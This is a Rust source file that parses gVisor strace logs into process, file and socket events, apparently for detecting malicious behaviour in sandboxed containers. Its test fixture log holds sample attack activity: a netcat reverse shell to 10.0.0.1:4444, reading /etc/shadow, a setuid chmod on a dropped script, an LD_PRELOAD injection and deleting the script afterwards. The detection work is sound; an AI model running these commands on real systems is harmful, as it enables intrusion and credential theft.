//! Parser for gVisor's system-call trace (`runsc --strace`), as written to the sandbox's
//! debug log by the `boot` process.
//!
//! Each traced call yields an entry line (`E`) and an exit line (`X`):
//!
//! ```text
//! I1204 20:47:33.465273   18441 strace.go:567] [   4:   4] busybox E execve(0x5eecf8 /bin/busybox, 0x5eeda0 ["/bin/busybox", "nc", ...], 0x5eedd8 [...])
//! I1204 20:47:33.465728   18441 strace.go:605] [   4:   4] busybox X execve(...) = 0 (0x0) (597.428µs)
//! ```
//!
//! The bracket contains the sandbox's thread-group id and thread id. Exits of failed calls carry
//! `errno=N`. Pids are the sandbox's own (the entrypoint is pid 1).

use std::collections::HashMap;

use regex::Regex;

use crate::events::{ExecAttempt, FileAccess, FileOp, ProcessRecord, SocketCall};

/// Processes, file calls and socket calls recovered from one trace.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Trace {
    /// Every successful exec, plus the entrypoint as pid 1.
    pub processes: Vec<ProcessRecord>,
    /// File-system calls.
    pub file_accesses: Vec<FileAccess>,
    /// Socket calls.
    pub socket_calls: Vec<SocketCall>,
    /// `memfd_create` calls: pid and name.
    pub memfd_creates: Vec<(u32, String)>,
    /// Execs that failed, one per distinct program name (a shell's PATH search tries several
    /// directories).
    pub exec_attempts: Vec<ExecAttempt>,
}

/// State of one sandbox process while the trace is read.
#[derive(Debug, Clone, Default)]
struct Task {
    exe: String,
    cwd: String,
    uid: Option<u32>,
    ppid: Option<u32>,
    /// Index of the task's current exec record in `Trace::processes`.
    record: Option<usize>,
}

/// Parses a debug log.
///
/// `start_seconds_of_day` is the time of day in seconds when the target started, which turns
/// log times into seconds since start. `entrypoint` is the argv of pid 1, whose exec gVisor
/// performs itself and does not trace, and `uid` is its user id (from the image's `USER`).
///
/// A child that a `clone`, `fork` or `vfork` created and that never executes a program is
/// recorded with `forked_only` set and its parent's argv, exe, uid and cwd.
pub fn parse(
    log: &str,
    start_seconds_of_day: f64,
    entrypoint: &[String],
    uid: Option<u32>,
) -> Trace {
    let line_re = line_regex();
    let mut trace = Trace::default();
    let mut tasks: HashMap<u32, Task> = HashMap::new();
    // Forked children that have not executed a program yet, and those that exited that way.
    let mut pending_forks: HashMap<u32, ProcessRecord> = HashMap::new();
    let mut forks: Vec<ProcessRecord> = Vec::new();
    let first_exe = entrypoint.first().cloned().unwrap_or_default();
    tasks.insert(
        1,
        Task {
            exe: first_exe.clone(),
            cwd: "/".to_string(),
            uid,
            ppid: None,
            record: Some(0),
        },
    );
    trace.processes.push(ProcessRecord {
        pid: 1,
        ppid: None,
        argv: entrypoint.to_vec(),
        exe: first_exe,
        uid,
        cwd: Some("/".to_string()),
        start: 0.0,
        details_complete: true,
        ..Default::default()
    });

    for line in log.lines() {
        let Some(c) = line_re.captures(line) else {
            continue;
        };
        let time = {
            let h: f64 = c[1].parse().unwrap_or(0.0);
            let m: f64 = c[2].parse().unwrap_or(0.0);
            let s: f64 = c[3].parse().unwrap_or(0.0);
            let frac: f64 = format!("0.{}", &c[4]).parse().unwrap_or(0.0);
            let mut t = h * 3600.0 + m * 60.0 + s + frac - start_seconds_of_day;
            if t < -43_200.0 {
                t += 86_400.0;
            }
            t.max(0.0)
        };
        let pid: u32 = c[5].parse().unwrap_or(0);
        let tid: u32 = c[6].parse().unwrap_or(0);
        let exit = &c[8] == "X";
        let syscall = &c[9];
        let args = &c[10];
        let failed = exit && args.contains(" errno=");
        let full = args;
        // The call's own arguments, without the `) = value ...` of exit lines.
        let args = match args.rfind(") = ") {
            Some(index) if exit => &args[..index],
            _ => args.strip_suffix(')').unwrap_or(args),
        };
        let task = tasks.entry(pid).or_insert_with(|| Task {
            cwd: "/".to_string(),
            uid,
            ..Default::default()
        });

        match (syscall, exit) {
            ("clone" | "fork" | "vfork", true) if !failed => {
                if args.contains("CLONE_THREAD") {
                    continue;
                }
                let Some(child) = return_value(full) else {
                    continue;
                };
                let parent = tasks.get(&pid).cloned().unwrap_or_default();
                // The child may have run, and even executed, before the parent's return line
                // was written; its own state wins then.
                if let Some(existing) = tasks.get_mut(&child) {
                    existing.ppid.get_or_insert(pid);
                    if let Some(index) = existing.record {
                        if trace.processes[index].pid == child {
                            trace.processes[index].ppid.get_or_insert(pid);
                        }
                    }
                    continue;
                }
                let parent_argv = parent
                    .record
                    .and_then(|index| trace.processes.get(index))
                    .map(|r| r.argv.clone())
                    .unwrap_or_default();
                pending_forks.insert(
                    child,
                    ProcessRecord {
                        pid: child,
                        ppid: Some(pid),
                        argv: parent_argv,
                        exe: parent.exe.clone(),
                        uid: parent.uid,
                        cwd: Some(parent.cwd.clone()),
                        start: time,
                        details_complete: true,
                        forked_only: true,
                        ..Default::default()
                    },
                );
                tasks.insert(
                    child,
                    Task {
                        exe: parent.exe,
                        cwd: parent.cwd,
                        uid: parent.uid,
                        ppid: Some(pid),
                        record: parent.record,
                    },
                );
            }
            ("execve", true) if failed => {
                if let Some(path) = first_path(args) {
                    let name = path.rsplit('/').next().unwrap_or(&path).to_string();
                    if !trace
                        .exec_attempts
                        .iter()
                        .any(|a| a.pid == pid && a.path.ends_with(&format!("/{name}")))
                    {
                        trace.exec_attempts.push(ExecAttempt { pid, path, time });
                    }
                }
            }
            ("execve" | "execveat", true) if !failed => {
                let strings = quoted_arrays(args);
                let argv = strings.first().cloned().unwrap_or_default();
                let env: Vec<String> = strings
                    .get(1)
                    .map(|e| {
                        e.iter()
                            .filter(|v| is_interesting_env(v))
                            .cloned()
                            .collect()
                    })
                    .unwrap_or_default();
                let path = if syscall == "execve" {
                    first_path(args)
                } else {
                    execveat_path(args)
                };
                let exe = match path.as_deref() {
                    Some("/proc/self/exe") | None => task.exe.clone(),
                    Some(p) if !p.starts_with('/') && !p.starts_with("memfd:") => {
                        join_path(&task.cwd, p)
                    }
                    Some(p) => p.to_string(),
                };
                task.exe = exe.clone();
                pending_forks.remove(&pid);
                let record = ProcessRecord {
                    pid,
                    ppid: task.ppid,
                    argv,
                    exe,
                    uid: task.uid,
                    cwd: Some(task.cwd.clone()),
                    start: time,
                    env,
                    details_complete: true,
                    ..Default::default()
                };
                task.record = Some(trace.processes.len());
                trace.processes.push(record);
            }
            ("exit_group", false) => {
                if let Some(mut fork) = pending_forks.remove(&pid) {
                    fork.end = Some(time);
                    fork.exit_code = first_hex(args).map(|v| v as i32);
                    forks.push(fork);
                } else if let Some(index) = task.record {
                    if trace.processes[index].pid == pid && trace.processes[index].end.is_none() {
                        trace.processes[index].end = Some(time);
                        trace.processes[index].exit_code = first_hex(args).map(|v| v as i32);
                    }
                }
            }
            ("chdir", true) if !failed => {
                if let Some(p) = first_path(args) {
                    task.cwd = if p.starts_with('/') {
                        p
                    } else {
                        join_path(&task.cwd, &p)
                    };
                }
            }
            ("setuid" | "setresuid" | "setreuid", true) if !failed => {
                if let Some(value) = first_hex(args) {
                    if value != u64::from(u32::MAX) {
                        task.uid = Some(value as u32);
                        if let Some(fork) = pending_forks.get_mut(&pid) {
                            fork.uid = task.uid;
                        }
                    }
                }
            }
            ("open" | "openat" | "creat", false) => {
                let path = if syscall == "openat" {
                    openat_path(args, &task.cwd)
                } else {
                    first_path(args)
                };
                let Some(path) = path else { continue };
                let write = syscall == "creat"
                    || args.contains("O_WRONLY")
                    || args.contains("O_RDWR")
                    || args.contains("O_CREAT")
                    || args.contains("O_TRUNC");
                let op = if write { FileOp::Write } else { FileOp::Read };
                trace.file_accesses.push(FileAccess {
                    pid,
                    path,
                    op,
                    time,
                });
            }
            ("unlink" | "unlinkat", false) => {
                let path = if syscall == "unlinkat" {
                    openat_path(args, &task.cwd)
                } else {
                    first_path(args)
                };
                if let Some(path) = path {
                    trace.file_accesses.push(FileAccess {
                        pid,
                        path,
                        op: FileOp::Unlink,
                        time,
                    });
                }
            }
            ("rename" | "renameat" | "renameat2", false) => {
                if let Some(path) = last_path(args) {
                    trace.file_accesses.push(FileAccess {
                        pid,
                        path,
                        op: FileOp::Write,
                        time,
                    });
                }
            }
            ("chmod" | "fchmodat" | "fchmod", false) => {
                let path = match syscall {
                    "fchmodat" => openat_path(args, &task.cwd),
                    _ => first_path(args),
                };
                if let (Some(path), Some(mode)) = (path, octal_mode(args)) {
                    trace.file_accesses.push(FileAccess {
                        pid,
                        path,
                        op: FileOp::Chmod(mode),
                        time,
                    });
                }
            }
            ("memfd_create", false) => {
                let name = first_path(args).unwrap_or_default();
                trace.memfd_creates.push((pid, name));
            }
            ("connect" | "bind", false) => {
                trace.socket_calls.push(SocketCall {
                    pid,
                    call: syscall.to_string(),
                    address: socket_address(args),
                    time,
                });
            }
            ("dup2" | "dup3", false) => {
                // `dup2(0x3 socket:[1], 0x0 host:[1])`: a socket becomes stdin, stdout or stderr.
                let mut parts = args.split(", ");
                let old_fd = parts.next().unwrap_or("");
                let new_fd = parts.next().unwrap_or("");
                let stdio = ["0x0", "0x1", "0x2"]
                    .iter()
                    .any(|fd| new_fd == *fd || new_fd.starts_with(&format!("{fd} ")));
                if old_fd.contains("socket:") && stdio {
                    trace.socket_calls.push(SocketCall {
                        pid,
                        call: "dup-stdio".to_string(),
                        address: None,
                        time,
                    });
                }
            }
            ("listen", false) => {
                trace.socket_calls.push(SocketCall {
                    pid,
                    call: "listen".to_string(),
                    address: None,
                    time,
                });
            }
            _ => {}
        }
        let _ = tid;
    }
    forks.extend(pending_forks.into_values());
    trace.processes.extend(forks);
    // Stable: the entrypoint stays first, and records of one time keep their order.
    trace.processes.sort_by(|a, b| a.start.total_cmp(&b.start));
    trace
}

/// Regex of one trace line: time of day, thread-group id, thread id, command, `E`/`X`, call
/// and arguments.
fn line_regex() -> &'static Regex {
    static LINE: std::sync::LazyLock<Regex> = std::sync::LazyLock::new(|| {
        Regex::new(
            r"^[IWEDF]\d{4} (\d\d):(\d\d):(\d\d)\.(\d+)\s+\d+ strace\.go:\d+\] \[\s*(\d+):\s*(\d+)\] (.+?) ([EX]) ([a-z0-9_]+)\((.*)$",
        )
        .expect("static regex")
    });
    &LINE
}

/// Returns the absolute path that one trace line writes or executes: a successful `open`,
/// `openat` or `creat` for writing (from its exit line, when the file exists), or an `execve`
/// or `execveat` (from its entry line, before the program runs).
pub fn written_or_executed_path(line: &str) -> Option<String> {
    let c = line_regex().captures(line.trim_end())?;
    let exit = &c[8] == "X";
    let syscall = &c[9];
    let full = &c[10];
    let path = match (syscall, exit) {
        ("open" | "openat" | "creat", true) => {
            if full.contains(" errno=") {
                return None;
            }
            let args = &full[..full.rfind(") = ")?];
            let write = syscall == "creat"
                || args.contains("O_WRONLY")
                || args.contains("O_RDWR")
                || args.contains("O_CREAT")
                || args.contains("O_TRUNC");
            if !write {
                return None;
            }
            if syscall == "openat" {
                openat_path(args, "/")
            } else {
                first_path(args)
            }
        }
        ("execve", false) => first_path(full.strip_suffix(')').unwrap_or(full)),
        ("execveat", false) => execveat_path(full.strip_suffix(')').unwrap_or(full)),
        _ => None,
    }?;
    let special = ["/proc/", "/dev/", "/sys/"]
        .iter()
        .any(|p| path.starts_with(p));
    (path.starts_with('/') && !special).then_some(path)
}

/// Keeps only environment entries that signals use.
fn is_interesting_env(entry: &str) -> bool {
    ["LD_PRELOAD=", "LD_LIBRARY_PATH=", "HISTFILE=", "HISTSIZE="]
        .iter()
        .any(|p| entry.starts_with(p))
}

fn join_path(dir: &str, rel: &str) -> String {
    let rel = rel.trim_start_matches("./");
    if dir.ends_with('/') {
        format!("{dir}{rel}")
    } else {
        format!("{dir}/{rel}")
    }
}

/// Returns the value after ` = ` in an exit line.
fn return_value(args: &str) -> Option<u32> {
    let index = args.rfind(") = ")?;
    args[index + 4..].split_whitespace().next()?.parse().ok()
}

/// Returns the first `0x...` argument as a number.
fn first_hex(args: &str) -> Option<u64> {
    let token = args.split([',', ')', ' ']).next()?;
    u64::from_str_radix(token.trim_start_matches("0x"), 16).ok()
}

/// Returns the path printed after the address of the first argument (`0x5eea10 /bin/busybox`).
fn first_path(args: &str) -> Option<String> {
    let first = args.split(", ").next()?;
    let (_, path) = first.split_once(' ')?;
    let path = path.trim_end_matches(')');
    (!path.is_empty() && !path.starts_with('[')).then(|| path.to_string())
}

/// Returns the last `0x... path` argument (the new name of a rename).
fn last_path(args: &str) -> Option<String> {
    let body = args
        .split(") = ")
        .next()
        .unwrap_or(args)
        .trim_end_matches(')');
    body.split(", ")
        .filter_map(|a| a.split_once(' ').map(|(_, p)| p.to_string()))
        .filter(|p| p.starts_with('/'))
        .last()
}

/// Returns the path argument of an `*at` call, joined with its directory.
fn openat_path(args: &str, cwd: &str) -> Option<String> {
    let mut parts = args.split(", ");
    let dirfd = parts.next()?;
    let path = parts.next()?.split_once(' ')?.1.to_string();
    if path.starts_with('/') {
        return Some(path);
    }
    // `AT_FDCWD /tmp` or `0x3 /some/dir`: the directory follows the first space.
    let dir = dirfd
        .split_once(' ')
        .map(|(_, d)| d.to_string())
        .unwrap_or_else(|| cwd.to_string());
    Some(join_path(&dir, &path))
}

/// Returns the executed path of an `execveat`: the directory fd's path when the path is empty.
fn execveat_path(args: &str) -> Option<String> {
    let mut parts = args.split(", ");
    let fd = parts.next()?;
    let path = parts
        .next()
        .and_then(|p| p.split_once(' ').map(|(_, v)| v.to_string()))
        .unwrap_or_default();
    if path.starts_with('/') {
        return Some(path);
    }
    let fd_path = fd.split_once(' ').map(|(_, d)| d.to_string())?;
    if path.is_empty() || path == "\"\"" {
        Some(fd_path)
    } else {
        Some(join_path(&fd_path, &path))
    }
}

fn octal_mode(args: &str) -> Option<u32> {
    let index = args.find("0o")?;
    let digits: String = args[index + 2..]
        .chars()
        .take_while(|c| c.is_digit(8))
        .collect();
    u32::from_str_radix(&digits, 8).ok()
}

/// Returns `ip:port` or a Unix socket path from a printed socket address.
fn socket_address(args: &str) -> Option<String> {
    let start = args.find('{')?;
    let end = args[start..].find('}')? + start;
    let body = &args[start + 1..end];
    let mut addr = None;
    let mut port = None;
    for field in body.split(", ") {
        if let Some(v) = field.strip_prefix("Addr: ") {
            addr = Some(v.trim_matches('"').to_string());
        } else if let Some(v) = field.strip_prefix("Port: ") {
            port = Some(v.to_string());
        }
    }
    match (addr, port) {
        (Some(a), Some(p)) if a.contains(':') => Some(format!("[{a}]:{p}")),
        (Some(a), Some(p)) => Some(format!("{a}:{p}")),
        (Some(a), None) => Some(a),
        _ => None,
    }
}

/// Parses every `["...", "..."]` array of Go-quoted strings in the argument text.
fn quoted_arrays(args: &str) -> Vec<Vec<String>> {
    let mut arrays = Vec::new();
    let chars: Vec<char> = args.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        if chars[i] == '[' && matches!(chars.get(i + 1), Some('"') | Some(']')) {
            let mut items = Vec::new();
            i += 1;
            loop {
                match chars.get(i) {
                    Some('"') => {
                        let (s, next) = go_string(&chars, i + 1);
                        items.push(s);
                        i = next;
                    }
                    Some(']') | None => break,
                    _ => i += 1,
                }
            }
            arrays.push(items);
        }
        i += 1;
    }
    arrays
}

/// Decodes one Go `%q` string starting after its opening quote; returns it and the index after
/// the closing quote.
fn go_string(chars: &[char], mut i: usize) -> (String, usize) {
    let mut out = String::new();
    let mut bytes: Vec<u8> = Vec::new();
    let flush = |bytes: &mut Vec<u8>, out: &mut String| {
        if !bytes.is_empty() {
            out.push_str(&String::from_utf8_lossy(bytes));
            bytes.clear();
        }
    };
    while i < chars.len() {
        match chars[i] {
            '"' => {
                flush(&mut bytes, &mut out);
                return (out, i + 1);
            }
            '\\' => {
                let escape = chars.get(i + 1).copied().unwrap_or('\\');
                i += 2;
                match escape {
                    'n' => bytes.push(b'\n'),
                    't' => bytes.push(b'\t'),
                    'r' => bytes.push(b'\r'),
                    'x' => {
                        let hex: String = chars
                            .get(i..i + 2)
                            .map(|c| c.iter().collect())
                            .unwrap_or_default();
                        if let Ok(b) = u8::from_str_radix(&hex, 16) {
                            bytes.push(b);
                        }
                        i += 2;
                    }
                    'u' | 'U' => {
                        let width = if escape == 'u' { 4 } else { 8 };
                        let hex: String = chars
                            .get(i..i + width)
                            .map(|c| c.iter().collect())
                            .unwrap_or_default();
                        if let Some(c) = u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32)
                        {
                            flush(&mut bytes, &mut out);
                            out.push(c);
                        }
                        i += width;
                    }
                    other => {
                        let mut buf = [0u8; 4];
                        bytes.extend_from_slice(other.encode_utf8(&mut buf).as_bytes());
                    }
                }
                continue;
            }
            c => {
                let mut buf = [0u8; 4];
                bytes.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
            }
        }
        i += 1;
    }
    flush(&mut bytes, &mut out);
    (out, i)
}

#[cfg(test)]
mod tests {
    use super::*;

    const LOG: &str = r#"I1204 20:47:33.432992   18441 strace.go:561] [   1:   1] busybox E chdir(0x5eed50 /tmp)
I1204 20:47:33.433000   18441 strace.go:561] [   1:   1] busybox X chdir(0x5eed50 /tmp) = 0 (0x0) (2µs)
I1204 20:47:33.433074   18441 strace.go:570] [   1:   1] busybox E openat(AT_FDCWD /tmp, 0x5eed48 /tmp/x.sh, O_WRONLY|O_CREAT|O_TRUNC, 0o666)
I1204 20:47:33.435960   18441 strace.go:573] [   1:   1] busybox E clone(CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|0x11, 0x0, 0x0, 0x5ec690, 0x0)
I1204 20:47:33.436373   18441 strace.go:611] [   1:   1] busybox X clone(CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|0x11, 0x0, 0x0, 0x5ec690, 0x0) = 2 (0x2) (403.42µs)
I1204 20:47:33.440835   18441 strace.go:564] [   2:   2] chmod E chmod(0x5eed28 /tmp/x.sh, 0o4755)
I1204 20:47:33.441067   18441 strace.go:561] [   2:   2] chmod E exit_group(0x0)
I1204 20:47:33.443151   18441 strace.go:611] [   1:   1] busybox X clone(CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|0x11, 0x0, 0x0, 0x5ec690, 0x0) = 3 (0x3) (657.327µs)
I1204 20:47:33.445772   18441 strace.go:567] [   3:   3] busybox E execve(0x5ac272 /proc/self/exe, 0x5eed38 ["cat", "/etc/shadow"], 0x5eed70 ["HOSTNAME=93050f1463e2", "SHLVL=1"])
I1204 20:47:33.451261   18441 strace.go:605] [   3:   3] busybox X execve(0x5ac272 /proc/self/exe, 0x5eed38 ["cat", "/etc/shadow"], 0x5eed70 ["HOSTNAME=93050f1463e2", "SHLVL=1"]) = 0 (0x0) (5ms)
I1204 20:47:33.460681   18441 strace.go:570] [   3:   3] cat E openat(AT_FDCWD /tmp, 0x7f9530e64f5b /etc/shadow, O_RDONLY|0x0, 0o0)
I1204 20:47:33.460908   18441 strace.go:561] [   3:   3] cat E exit_group(0x1)
I1204 20:47:33.462453   18441 strace.go:611] [   1:   1] busybox X clone(CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|0x11, 0x0, 0x0, 0x5ec690, 0x0) = 4 (0x4) (535.657µs)
I1204 20:47:33.464000   18441 strace.go:605] [   4:   4] busybox X execve(0x5eecf8 /usr/bin/missing, 0x5eeda0 ["missing"], 0x5eedd8 []) = 0 (0x0) errno=2 (no such file or directory) (1µs)
I1204 20:47:33.465728   18441 strace.go:605] [   4:   4] busybox X execve(0x5eecf8 /bin/busybox, 0x5eeda0 ["/bin/busybox", "nc", "10.0.0.1", "4444", "-e", "/bin/sh"], 0x5eedd8 ["LD_PRELOAD=/tmp/x.so", "A=\"q\""]) = 0 (0x0) (597.428µs)
I1204 20:47:33.474772   18441 strace.go:567] [   4:   4] busybox E connect(0x3 socket:[1], 0x5ed734 {Family: AF_INET, Addr: 10.0.0.1, Port: 4444}, 0x10)
I1204 20:47:34.482239   18441 strace.go:561] [   6:   6] rm E unlink(0x5eed10 /tmp/x.sh)
I1204 20:47:34.483840   18441 strace.go:561] [   1:   1] busybox E exit_group(0x3)
"#;

    fn start() -> f64 {
        20.0 * 3600.0 + 47.0 * 60.0 + 33.0
    }

    fn parsed() -> Trace {
        parse(
            LOG,
            start(),
            &["/bin/busybox".to_string(), "sh".to_string()],
            Some(0),
        )
    }

    #[test]
    fn entrypoint_is_pid_one() {
        let t = parsed();
        assert_eq!(t.processes[0].pid, 1);
        assert_eq!(t.processes[0].argv, vec!["/bin/busybox", "sh"]);
        assert_eq!(t.processes[0].exit_code, Some(3));
    }

    #[test]
    fn exec_records_argv_parent_and_cwd() {
        let t = parsed();
        let cat = t
            .processes
            .iter()
            .find(|p| p.argv.first().map(String::as_str) == Some("cat"))
            .unwrap();
        assert_eq!(cat.pid, 3);
        assert_eq!(cat.ppid, Some(1));
        assert_eq!(
            cat.exe, "/bin/busybox",
            "/proc/self/exe resolves to the inherited exe"
        );
        assert_eq!(cat.cwd.as_deref(), Some("/tmp"));
        assert_eq!(cat.exit_code, Some(1));
        assert!((cat.start - 0.451261).abs() < 1e-6);
    }

    #[test]
    fn failed_exec_is_not_a_process() {
        let t = parsed();
        assert!(!t.processes.iter().any(|p| p.exe == "/usr/bin/missing"));
        assert_eq!(t.processes.iter().filter(|p| !p.forked_only).count(), 3);
    }

    #[test]
    fn fork_without_exec_is_listed() {
        let t = parsed();
        let forks: Vec<_> = t.processes.iter().filter(|p| p.forked_only).collect();
        assert_eq!(forks.len(), 1, "{forks:?}");
        let child = forks[0];
        assert_eq!(child.pid, 2);
        assert_eq!(child.ppid, Some(1));
        assert_eq!(child.argv, vec!["/bin/busybox", "sh"]);
        assert_eq!(child.exe, "/bin/busybox");
        assert_eq!(child.cwd.as_deref(), Some("/tmp"));
        assert_eq!(child.exit_code, Some(0));
        assert!(child.end.is_some());
        assert!((child.start - 0.436373).abs() < 1e-6);
    }

    #[test]
    fn uid_follows_entrypoint_and_setuid() {
        let log = "I1204 20:47:33.500000   18441 strace.go:611] [   1:   1] sh X clone(CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|0x11, 0x0, 0x0, 0x5ec690, 0x0) = 7 (0x7) (1µs)\n\
I1204 20:47:33.500100   18441 strace.go:605] [   7:   7] sh X setresuid(0x3e9, 0x3e9, 0x3e9) = 0 (0x0) (1µs)\n\
I1204 20:47:33.500200   18441 strace.go:605] [   7:   7] sh X execve(0x1 /bin/id, 0x2 [\"id\"], 0x3 []) = 0 (0x0) (1µs)\n";
        let t = parse(log, start(), &["/bin/sh".to_string()], Some(1000));
        assert_eq!(t.processes[0].uid, Some(1000));
        let id = t.processes.iter().find(|p| p.exe == "/bin/id").unwrap();
        assert_eq!(id.uid, Some(1001));
        assert!(!t.processes.iter().any(|p| p.forked_only));
    }

    #[test]
    fn exec_keeps_preload_environment() {
        let t = parsed();
        let nc = t.processes.iter().find(|p| p.pid == 4).unwrap();
        assert_eq!(
            nc.argv,
            vec!["/bin/busybox", "nc", "10.0.0.1", "4444", "-e", "/bin/sh"]
        );
        assert_eq!(nc.env, vec!["LD_PRELOAD=/tmp/x.so"]);
    }

    #[test]
    fn file_and_socket_calls_are_kept() {
        let t = parsed();
        assert!(t.file_accesses.contains(&FileAccess {
            pid: 1,
            path: "/tmp/x.sh".into(),
            op: FileOp::Write,
            time: t.file_accesses[0].time
        }));
        assert!(t
            .file_accesses
            .iter()
            .any(|a| a.path == "/etc/shadow" && a.op == FileOp::Read));
        assert!(t
            .file_accesses
            .iter()
            .any(|a| a.path == "/tmp/x.sh" && a.op == FileOp::Chmod(0o4755)));
        assert!(t
            .file_accesses
            .iter()
            .any(|a| a.path == "/tmp/x.sh" && a.op == FileOp::Unlink));
        assert_eq!(t.socket_calls[0].address.as_deref(), Some("10.0.0.1:4444"));
    }

    #[test]
    fn written_and_executed_paths_are_found() {
        let lines: Vec<&str> = LOG.lines().collect();
        let paths: Vec<Option<String>> =
            lines.iter().map(|l| written_or_executed_path(l)).collect();
        // Entry lines of opens carry no result yet.
        assert_eq!(paths[2], None);
        assert_eq!(
            paths[8], None,
            "/proc/self/exe is not a file of the container"
        );
        let exit = "I1204 20:47:33.433100   18441 strace.go:573] [   1:   1] busybox X openat(AT_FDCWD /tmp, 0x5eed48 x.sh, O_WRONLY|O_CREAT|O_TRUNC, 0o666) = 3 (0x3) (5µs)";
        assert_eq!(written_or_executed_path(exit).as_deref(), Some("/tmp/x.sh"));
        let failed = "I1204 20:47:33.433100   18441 strace.go:573] [   1:   1] busybox X openat(AT_FDCWD /, 0x5eed48 /etc/x, O_WRONLY|O_CREAT, 0o666) = 0 (0x0) errno=13 (permission denied) (5µs)";
        assert_eq!(written_or_executed_path(failed), None);
        let read = "I1204 20:47:33.433100   18441 strace.go:573] [   1:   1] busybox X openat(AT_FDCWD /, 0x5eed48 /etc/passwd, O_RDONLY, 0o0) = 3 (0x3) (5µs)";
        assert_eq!(written_or_executed_path(read), None);
        let exec = "I1204 20:47:33.445772   18441 strace.go:567] [   3:   3] sh E execve(0x5ac272 /tmp/drop.sh, 0x5eed38 [\"/tmp/drop.sh\"], 0x5eed70 [])";
        assert_eq!(
            written_or_executed_path(exec).as_deref(),
            Some("/tmp/drop.sh")
        );
    }

    #[test]
    fn go_escapes_are_decoded() {
        let arrays = quoted_arrays(r#"0x1 ["a\"b", "c\\d", "\xff", "\u00e9"]"#);
        assert_eq!(arrays[0][0], "a\"b");
        assert_eq!(arrays[0][1], "c\\d");
        assert_eq!(arrays[0][3], "é");
    }
}
